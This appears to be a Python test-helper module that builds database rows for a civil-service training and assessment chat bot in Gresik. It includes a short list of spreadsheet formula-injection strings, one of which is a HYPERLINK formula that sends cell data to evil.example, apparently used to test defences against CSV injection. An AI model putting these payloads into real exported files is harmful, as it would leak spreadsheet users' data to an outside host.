"""Small builders for rows tests need; each returns what it wrote."""

from __future__ import annotations

from datetime import date, datetime, timedelta
from decimal import Decimal

from sqlalchemy import select
from sqlalchemy.ext.asyncio import AsyncSession

from bot.core.codes import hash_code
from models import (
    ActivationCode,
    AssessmentProgram,
    AssessmentSession,
    ChatLink,
    Course,
    CourseCompetency,
    CourseMode,
    Employee,
    EmployeeStatus,
    Enrollment,
    EnrollmentStatus,
    JpEntry,
    LinkStatus,
    Participation,
    ParticipationStatus,
    Position,
    PositionType,
    Result,
    ResultScore,
    Unit,
    VerificationMethod,
)

NIP_BUDI = "198609262015051001"
NIP_SITI = "199001012015052002"
# Names that Excel or LibreOffice would run as formulas if written as typed.
HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&B4&C4,"Budi")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "=1",
]
# The columns of bot/imports/templates/pegawai.csv, in order (an import file as BKPSDM writes it).
EMPLOYEE_HEADER = [
    "NIP",
    "Nama",
    "Status",
    "Kode Unit",
    "Unit Kerja",
    "Jenis Unit",
    "Unit Induk",
    "Jabatan",
    "Jenis Jabatan",
    "Jenjang",
    "No HP",
    "Email",
    "Aktif",
]


def employees_csv() -> bytes:
    """An import file of one good employee (Siti Aminah, BKPSDM), as CSV."""
    row = ["199001012015052002", "Siti Aminah", "PNS", "BKPSDM", "BKPSDM", "badan", "",
           "Analis", "Pelaksana", "", "", "", "Ya"]  # fmt: skip
    return "\n".join([",".join(EMPLOYEE_HEADER), ",".join(row)]).encode()


async def add_unit(session: AsyncSession, code: str = "OPD-BKPSDM", name: str = "BKPSDM") -> Unit:
    unit = await session.scalar(select(Unit).where(Unit.code == code))
    if unit is None:
        unit = Unit(code=code, name=name, kind="badan")
        session.add(unit)
        await session.flush()
    return unit


async def add_employee(
    session: AsyncSession,
    *,
    nip: str = NIP_BUDI,
    name: str = "Budi Santoso",
    phone: str | None = "+6281234567890",
    position_type: PositionType = PositionType.ADMINISTRATOR,
    unit_code: str = "OPD-BKPSDM",
) -> Employee:
    unit = await add_unit(session, unit_code)
    position = Position(name=f"Kepala Bagian {name}", position_type=position_type, grade="")
    session.add(position)
    await session.flush()
    employee = Employee(
        nip=nip,
        status=EmployeeStatus.PNS,
        name=name,
        unit_id=unit.id,
        position_id=position.id,
        phone=phone,
        active=True,
    )
    session.add(employee)
    await session.flush()
    return employee


async def add_code(
    session: AsyncSession,
    *,
    employee: Employee,
    code: str,
    now: datetime,
    valid_for: timedelta = timedelta(days=30),
) -> ActivationCode:
    row = ActivationCode(
        employee_id=employee.id,
        code_hash=hash_code(code),
        issued_at=now,
        expires_at=now + valid_for,
    )
    session.add(row)
    await session.flush()
    return row


async def add_released_result(
    session: AsyncSession,
    *,
    employee: Employee,
    now: datetime,
    achieved: tuple[int, ...] = (3, 3, 2, 3, 3, 2, 3, 3, 2),
    program: AssessmentProgram | None = None,
) -> Result:
    """The worked example (docs/demo.md): standard 3 for nine competencies, JPM 88.9%
    (in its own program PK-2024 unless ``program`` is given)."""
    if program is None:
        program = AssessmentProgram(
            code="PK-2024",
            name="Penilaian Kompetensi ASN 2024",
            year=2024,
            method="Assessment Center",
            thresholds={"Optimal": 90, "Cukup Optimal": 78, "Kurang Optimal": 0},
            results_released_at=now,
        )
        session.add(program)
        await session.flush()
    codes = ("M.01", "M.02", "M.03", "M.04", "M.05", "M.06", "M.07", "M.08", "SK.01")
    result = Result(
        program_id=program.id,
        employee_id=employee.id,
        assessed_on=date(2024, 8, 6),
        jpm=Decimal("88.89"),
        category="Cukup Optimal",
        released_at=now,
        scores=[
            ResultScore(competency_code=code, required_level=3, achieved_level=level)
            for code, level in zip(codes, achieved, strict=True)
        ],
    )
    session.add(result)
    await session.flush()
    return result


# schedule (tests/journeys/test_schedule.py)


async def add_linked_user(
    session: AsyncSession,
    *,
    employee: Employee,
    telegram_user_id: int,
    now: datetime,
    language: str = "id",
) -> ChatLink:
    """A verified, active chat link (skips the linking conversation)."""
    link = ChatLink(
        telegram_user_id=telegram_user_id,
        employee_id=employee.id,
        status=LinkStatus.ACTIVE,
        verification_method=VerificationMethod.CODE,
        language=language,
        created_at=now,
        linked_at=now,
    )
    session.add(link)
    await session.flush()
    return link


async def add_program(
    session: AsyncSession,
    *,
    code: str = "PK-2025",
    name: str = "Penilaian Kompetensi ASN 2025",
    self_booking: bool = False,
    booking_deadline: datetime | None = None,
) -> AssessmentProgram:
    program = AssessmentProgram(
        code=code,
        name=name,
        year=2025,
        method="Assessment Center",
        thresholds={"Optimal": 90, "Cukup Optimal": 78, "Kurang Optimal": 0},
        self_booking=self_booking,
        booking_deadline=booking_deadline,
    )
    session.add(program)
    await session.flush()
    return program


async def add_assessment_session(
    session: AsyncSession,
    *,
    program: AssessmentProgram,
    code: str,
    starts_at: datetime,
    hours: int = 8,
    capacity: int = 30,
    seats_taken: int = 0,
    open_to: str = "",
    **fields: object,
) -> AssessmentSession:
    """A session; ``fields`` set any other column (venue_name, latitude, status...)."""
    values: dict[str, object] = {
        "venue_name": "UPT Penilaian Kompetensi BKPSDM Gresik",
        "address": "Jl. Dr. Wahidin Sudirohusodo No. 245, Kebomas, Gresik",
        **fields,
    }
    row = AssessmentSession(
        program_id=program.id,
        code=code,
        starts_at=starts_at,
        ends_at=starts_at + timedelta(hours=hours),
        capacity=capacity,
        seats_taken=seats_taken,
        open_to=open_to,
        **values,
    )
    session.add(row)
    await session.flush()
    return row


async def add_participation(
    session: AsyncSession,
    *,
    employee: Employee,
    assessment_session: AssessmentSession,
    status: str = "invited",
) -> Participation:
    """A participation holding a seat (the session's counter goes up with it)."""
    row = Participation(
        session_id=assessment_session.id,
        employee_id=employee.id,
        status=ParticipationStatus(status),
    )
    assessment_session.seats_taken += 1
    session.add(row)
    await session.flush()
    return row


# gapura and jp (tests/journeys/test_courses.py, tests/journeys/test_jp.py)


async def add_course(
    session: AsyncSession,
    *,
    title: str,
    now: datetime,
    jp: str = "8",
    quota: int = 30,
    seats_taken: int = 0,
    competencies: dict[str, int | None] | None = None,
    mode: str = "luring",
    starts_in: timedelta = timedelta(days=20),
    **fields: object,
) -> Course:
    """An open course whose registration window includes ``now``; ``fields`` set any
    other column (audience_position_types, status, registration_closes_at...)."""
    starts = (now + starts_in).date()
    values: dict[str, object] = {
        "description": f"Pelatihan {title} untuk ASN Pemkab Gresik.",
        "ends_on": starts + timedelta(days=1),
        "venue": "Aula BKPSDM Gresik" if mode != "daring" else "",
        "online_url": None if mode == "luring" else "https://elearning.example.org/gapura",
        "provider": "BKPSDM Gresik",
        "registration_opens_at": now - timedelta(days=3),
        "registration_closes_at": now + timedelta(days=10),
        "contact": "Seksi Pengembangan Kompetensi, 031-3981234",
        **fields,
    }
    course = Course(
        code=f"GPR-{title[:36]}",
        title=title,
        jp=Decimal(jp),
        starts_on=starts,
        mode=CourseMode(mode),
        quota=quota,
        seats_taken=seats_taken,
        competencies=[
            CourseCompetency(competency_code=code, target_level=level)
            for code, level in (competencies or {}).items()
        ],
        **values,
    )
    session.add(course)
    await session.flush()
    return course


async def add_enrollment(
    session: AsyncSession,
    *,
    course: Course,
    employee: Employee,
    status: str,
    at: datetime,
    offered_until: datetime | None = None,
) -> Enrollment:
    """A place on a course; a registered or offered one takes a seat with it."""
    row = Enrollment(
        course_id=course.id,
        employee_id=employee.id,
        status=EnrollmentStatus(status),
        registered_at=at,
        offered_until=offered_until,
    )
    if status in ("registered", "offered"):
        course.seats_taken += 1
    session.add(row)
    await session.flush()
    return row


async def add_jp_entry(
    session: AsyncSession,
    *,
    employee: Employee,
    jp: str,
    on: date,
    source: str = "import",
) -> JpEntry:
    row = JpEntry(
        employee_id=employee.id,
        year=on.year,
        jp=Decimal(jp),
        source=source,
        description="Pelatihan",
        recorded_on=on,
    )
    session.add(row)
    await session.flush()
    return row


# admin in the chat (tests/journeys/test_admin_*.py)


async def add_sub_unit(
    session: AsyncSession,
    *,
    code: str,
    name: str,
    parent_code: str,
    kind: str = "puskesmas",
) -> Unit:
    """A unit under another one (its OPD); the parent is made when missing."""
    parent = await add_unit(session, parent_code)
    unit = Unit(code=code, name=name, kind=kind, parent_id=parent.id)
    session.add(unit)
    await session.flush()
    return unit


async def add_result(
    session: AsyncSession,
    *,
    employee: Employee,
    program: AssessmentProgram,
    released_at: datetime | None = None,
    jpm: str = "88.89",
) -> Result:
    """A result without scores, hidden until ``released_at``."""
    row = Result(
        program_id=program.id,
        employee_id=employee.id,
        assessed_on=date(program.year, 8, 6),
        jpm=Decimal(jpm),
        category="Cukup Optimal",
        released_at=released_at,
    )
    session.add(row)
    await session.flush()
    return row
